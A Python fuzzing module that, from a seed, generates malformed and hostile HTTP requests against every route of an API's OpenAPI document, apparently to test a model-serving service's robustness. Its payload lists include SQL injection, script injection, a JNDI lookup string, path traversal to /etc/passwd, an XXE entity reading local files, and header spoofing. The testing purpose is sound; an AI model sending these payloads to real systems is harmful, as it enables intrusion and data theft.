"""Requests made to harm, by a seed: broken bodies, paths, queries and headers for every documented route."""

import json
import random
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import msgspec


class Attack(msgspec.Struct, frozen=True, kw_only=True):
    """One HTTP request; ``target`` is what stands in the request line, already encoded."""

    method: str
    target: str
    headers: dict[str, str] = {}
    body: bytes = b""


NAMES = (
    "..",
    ".",
    "%",
    "a b",
    "#counters",
    "a/../../b",
    "\x00",
    "\U0001d52b\U0001d52c",
    "x" * 1500,
    "'; DROP TABLE models--",
    "<script>alert(1)</script>",
    "${jndi:ldap://x}",
    "-1",
    "v99999999999",
    "NaN",
    "%2e%2e%2f",
    "\u202eabc",
    "null",
    "*",
)
QUERIES = (
    "limit=-1",
    "limit=99999999999999999999",
    "limit=%C2%B2",
    "limit=",
    "cursor=garbage",
    "cursor=" + "A" * 2000,
    "cursor=eyJhIjoxfQ",
    "version=v0",
    "version=%00",
    "at=yesterday",
    "at=9999-12-31T23:59:59-23:59",
    "on_error=rows",
    "unseen=%FF",
    "routing_key=" + "k" * 3000,
    "from=latest&to=" + "d" * 500,
    "filename=../../etc/passwd",
    "&&&===",
    "limit=1&limit=2",
)
BODIES = (
    b"",
    b"{",
    b"null",
    b"[]",
    b"0",
    b'"text"',
    b"\xff\xfe\x00",
    b"[" * 50_000,
    b'{"a":' * 5_000,
    b'{"records":' + b"[" * 40 + b"]" * 40 + b"}",
    b'{"records":[NaN]}',
    b'{"records":[{"hour":1e999}]}',
    b'{"records":[{"hour":1' + b"0" * 4_000 + b"}]}",
    b'{"records":[' + b",".join([b"{}"] * 1001) + b"]}",
    b'{"records":[{}],"records":[{}]}',
    b'{"records":{"0":{}}}',
    b'{"records":[{"\\ud800":1}]}',
    b'{"records":[{"' + b"k" * 10_000 + b'":1}]}',
    b'{"records":[{"hour":"\\u0000"}]}',
    b'{"__proto__":{"a":1}}',
    b'{"version":"v1","force":true}',
    b'{"name":"x","task":"classification","target":"late","data":{"max_bad":"1e9%"}}',
    b'{"pipeline":"' + b"p" * 2_000 + b'"}',
    b'{"inputs":[{"name":"hour","shape":[-1],"datatype":"INT64","data":[1]}]}',
    b'{"inputs":[{"name":"hour","shape":[9223372036854775807],"datatype":"INT64","data":[1]}]}',
    b'{"inputs":[{"name":"hour","shape":[1,1,1],"datatype":"INT64","data":[[[1]]]}]}',
    b"a,b\n1\n",
    b'a,"b\n',
    b"hour\n" + b"1\n" * 2_000,
    b"\x1f\x8b\x08\x00bomb",
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
)
TYPES = (
    "application/json",
    "text/csv",
    "application/x-ndjson",
    "application/json; charset=utf-16",
    "application/xml",
    "multipart/form-data",
    "application/octet-stream",
    "x" * 200,
    "",
)
HEADERS: tuple[dict[str, str], ...] = (
    {},
    {"Accept": "image/png"},
    {"Accept": "text/csv;q=2, */*;q=-1"},
    {"Accept": "," * 500},
    {"If-Match": '"not a revision"'},
    {"If-None-Match": "*"},
    {"Idempotency-Key": "k" * 300},
    {"Idempotency-Key": "\t"},
    {"Inference-Header-Content-Length": "12"},
    {"X-Forwarded-For": "127.0.0.1, ::1"},
    {"X-Headrace-Origin": "guessed"},
    {"X-HTTP-Method-Override": "DELETE"},
    {"Content-Encoding": "gzip"},
    {"Range": "bytes=0-1"},
    {"Authorization": "Bearer hr_" + "a" * 43},
    {"Authorization": "Basic eDp5"},
)
METHODS = ("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD")


def attacks(document: dict[str, Any], names: dict[str, str], *, seed: int) -> Iterator[Attack]:
    """Yield requests without end; *names* fill the parameters of paths where no hostile name does."""
    draw = random.Random(seed)
    routes = [
        (method.upper(), path)
        for path, item in document["paths"].items()
        for method in item
        if method != "parameters"
    ]
    while True:
        method, path = draw.choice(routes)
        if draw.random() < 0.05:
            method = draw.choice(METHODS)
        names_now = names if draw.random() < 0.6 else names | {key: draw.choice(NAMES) for key in names}
        if method == "DELETE" or path.endswith(("/promote", "/rollback", "/stop")):
            # What would change the stage for others goes at names that do not exist.
            names_now = {key: draw.choice(NAMES) for key in names}
        target = path.format(**{key: quote(value, safe="") for key, value in names_now.items()})
        if draw.random() < 0.4:
            target += "?" + draw.choice(QUERIES)
        headers = {"Content-Type": draw.choice(TYPES)} if draw.random() < 0.4 else {}
        headers |= draw.choice(HEADERS) if draw.random() < 0.5 else {}
        body = _body(draw) if method in {"POST", "PUT", "PATCH"} else b""
        yield Attack(method=method, target=target, headers=headers, body=body)


def _body(draw: random.Random) -> bytes:
    body = draw.choice(BODIES)
    if body and draw.random() < 0.3:
        # One byte elsewhere: most are still JSON, or nearly.
        place = draw.randrange(min(len(body), 200))
        body = body[:place] + bytes([draw.randrange(256)]) + body[place + 1 :]
    if draw.random() < 0.05:
        value: Any = draw.choice([None, True, -1, 1e308, "x" * 100, [], {}])
        body = json.dumps(dict.fromkeys(("records", "reason", "version", "filename"), value)).encode()
    return body
